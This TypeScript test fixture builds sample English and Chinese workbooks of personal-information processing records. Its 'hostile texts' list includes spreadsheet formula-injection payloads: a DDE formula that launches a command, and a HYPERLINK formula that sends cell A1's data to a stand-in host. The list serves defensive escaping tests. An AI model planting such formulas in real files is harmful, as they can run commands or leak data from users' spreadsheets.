import type { Language } from '../../shared/lib/index.ts';
import type {
  CellModel,
  ColumnModel,
  SheetModel,
  WorkbookModel,
} from '../../shared/report/index.ts';

/** Texts that try to become something else on their way through a workbook. */
export const hostileTexts: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.test/?"&A1,"open")',
  '+1+1',
  '-2',
  '-2+3+cmd|/C',
  '@SUM(A1)',
  '＝1+1',
  '  =1+1',
  '\t=1+1',
  '\tled by a tab',
  '\r\n=1+1',
  '+86 138 0000 0000',
  '–',
  '-',
  '#N/A',
  '#REF!',
  'TRUE',
  '007',
  '1e5',
  '2026-11-22',
  "'already led by an apostrophe",
  '<b>&amp; "quoted", \'single\'; semicolon</b>',
  ']]>',
  '_x0041_ and _x000D_',
  'null\u0000bell\u0007escape\u001Bend',
  'lone \uD83D surrogate, \uDE00 and \uFFFF',
  'line one\r\nline two\rline three\nline four',
  ' kept spaces ',
  '🗂️ 👩🏽‍⚖️ 𠮷野家',
  'שלום עולם — مرحبا بالعالم',
  '个人信息处理者“单独同意”',
  '40,000: '.padEnd(40_000, 'x'),
  `cut in a pair ${'😀'.repeat(20_000)}`,
];

/** A small workbook with every kind of column, every verdict and, on its last sheet, the hostile texts. */
export function sampleWorkbook(language: Language): WorkbookModel {
  return language === 'en' ? englishWorkbook() : chineseWorkbook();
}

function englishWorkbook(): WorkbookModel {
  return {
    language: 'en',
    title: 'Records of processing and their verdicts',
    organisation: 'Sample Trading & Logistics Co.',
    asOf: '2026-11-22',
    sheets: [
      recordsSheet({
        name: 'Data elements',
        preface: [
          'Data elements',
          'Sample Trading & Logistics Co. – data as of 2026-11-22',
          'Correct a cell and send the file back: the code in the first column says which record it is, so please leave that column as it stands, and do not move columns; rows may be sorted and filtered freely. Columns with a list take the values of the list alone.',
        ],
        heads: [
          'Code',
          'Data element',
          'What it is used for',
          'Category',
          'System',
          'People',
          'Months kept',
          'Share filled in',
          'Collected since',
          'Retention',
          'Score',
        ],
        help: {
          code: 'The record’s code. It never changes.',
          people: 'How many people the element is about, as last counted by the system’s owner.',
          score: 'Fulfilment of the commitments that concern this record, of those decided.',
        },
        categories: ['General', 'Sensitive', 'Minors under 14', 'Unknown'],
        systems: ['CRM, sales', 'Human resources', 'Web shop', 'Warehouse "North"'],
        words: [
          'Kept',
          'Partly kept',
          'Not kept',
          'Undetermined',
          'Not applicable',
          'Error: no rule',
        ],
        names: [
          'Mobile number',
          'Identity card number',
          'Delivery address',
          'Health declaration',
          'Guardian’s consent',
          'Click path',
        ],
        purposes: [
          'Contact about an order that is under way.',
          'Proof of identity before a contract is signed, as the tax office asks of us for invoices above the limit; the copy is destroyed when the check is done.',
          'Delivery by the carrier.\nHanded on to two carriers.',
          'not stated',
          'Consent for members under fourteen, asked from the parent or guardian before anything is collected.',
          'Finding out which pages are read.',
        ],
        unknown: 'unknown',
      }),
      hostileSheet('Hostile, "=1+1"', 'What people type', 'Text', 'Note'),
    ],
  };
}

function chineseWorkbook(): WorkbookModel {
  return {
    language: 'zh-CN',
    title: '个人信息处理活动记录及判定结果',
    organisation: '示例贸易物流有限公司',
    asOf: '2026-11-22',
    sheets: [
      recordsSheet({
        name: '数据项',
        preface: [
          '数据项',
          '示例贸易物流有限公司 – 数据截至 2026-11-22',
          '可直接更正单元格并寄回本文件：首列编号用于识别记录，请勿改动，亦请勿调整列的顺序；行可任意排序、筛选。设有选项的列仅可填写所列选项。各项判定均依据企业个人信息保护政策所载承诺逐条作出，未能判定者不视为已履行。',
        ],
        heads: [
          '编号',
          '数据项',
          '处理目的',
          '类别',
          '系统',
          '涉及人数',
          '保存月数',
          '填写完整度',
          '收集起始日',
          '保存期限',
          '得分',
        ],
        help: {
          code: '记录的编号，始终不变。',
          people: '该数据项所涉及的个人数量，以系统负责人最近一次统计为准。',
          score: '与本记录有关的承诺中，已判定部分的履行程度。',
        },
        categories: ['一般个人信息', '敏感个人信息', '不满十四周岁未成年人个人信息', '未知'],
        systems: ['客户关系,销售', '人力资源', '网上商城', '仓储“北区”'],
        words: ['已履行', '部分履行', '未履行', '无法判定', '不适用', '错误：无规则'],
        names: ['手机号码', '身份证件号码', '收货地址', '健康申报', '监护人同意', '浏览路径'],
        purposes: [
          '就进行中的订单联系个人。',
          '订立合同前核验身份；依税务机关要求，开具超过限额的发票时留存，核验完毕即销毁复印件，不另作他用。',
          '由承运人配送。\n委托两家承运人处理。',
          '未说明',
          '处理不满十四周岁未成年人个人信息前，取得其父母或者其他监护人的同意。',
          '了解哪些页面被浏览。',
        ],
        unknown: '未知',
      }),
      hostileSheet('异常输入“=1+1”', '用户输入的内容', '文本', '备注'),
    ],
  };
}

interface RecordWords {
  readonly name: string;
  readonly preface: readonly string[];
  readonly heads: readonly string[];
  readonly help: { readonly [key: string]: string };
  readonly categories: readonly string[];
  readonly systems: readonly string[];
  readonly words: readonly string[];
  readonly names: readonly string[];
  readonly purposes: readonly string[];
  readonly unknown: string;
}

const outcomes = [
  'met',
  'partly-met',
  'not-met',
  'undetermined',
  'not-applicable',
  'error',
] as const;
const kinds: readonly (readonly [string, number, ColumnModel['kind']])[] = [
  ['code', 9, 'text'],
  ['name', 22, 'text'],
  ['purpose', 38, 'wrapped'],
  ['category', 18, 'text'],
  ['system', 18, 'text'],
  ['people', 12, 'integer'],
  ['months', 10, 'decimal'],
  ['filled', 11, 'percent'],
  ['since', 13, 'day'],
  ['verdict', 18, 'verdict'],
  ['score', 16, 'score'],
];

function recordsSheet(text: RecordWords): SheetModel {
  const choices: { readonly [key: string]: readonly string[] } = {
    category: text.categories,
    // Commas and quotation marks cannot stand in a rule: this list goes to the hidden sheet.
    system: text.systems,
  };
  const columns = kinds.map(([key, width, kind], index): ColumnModel => {
    const column = { key, head: text.heads[index] ?? key, width, kind };
    const help = text.help[key];
    const list = choices[key];
    return { ...column, ...(help ? { help } : {}), ...(list ? { choices: list } : {}) };
  });
  return {
    id: 'elements',
    name: text.name,
    preface: text.preface,
    columns,
    rows: Array.from({ length: 24 }, (_, index) => recordRow(text, index)),
    frozenColumns: 2,
  };
}

function recordRow(text: RecordWords, index: number): readonly CellModel[] {
  const at = index % 6;
  return [
    `DE-${String(index + 1).padStart(3, '0')}`,
    text.names[at] ?? '',
    text.purposes[at] ?? '',
    text.categories[index % 4] ?? '',
    text.systems[(index + 1) % 4] ?? '',
    at === 3 ? text.unknown : (index + 1) ** 4,
    at === 4 ? null : index * 1.5,
    at === 5 ? 1 : ((index * 37) % 100) / 100,
    at === 3 ? text.unknown : `20${10 + (index % 15)}-0${1 + at}-2${at}`,
    { outcome: outcomes[at] ?? 'error', text: text.words[at] ?? '' },
    at === 3 ? null : ((index * 41) % 101) / 100,
  ];
}

function hostileSheet(name: string, title: string, head: string, note: string): SheetModel {
  return {
    id: 'hostile',
    name,
    preface: [title],
    columns: [
      { key: 'text', head, width: 60, kind: 'text' },
      { key: 'wrapped', head: `=${head}`, width: 40, kind: 'wrapped', help: `=1+1 ${note}` },
      { key: 'day', head: `${note} & <${note}>`, width: 20, kind: 'day' },
    ],
    rows: hostileTexts.map((text, index) => [
      text,
      text.length > 1000 ? index : text,
      text.slice(0, 60),
    ]),
    frozenColumns: 0,
  };
}
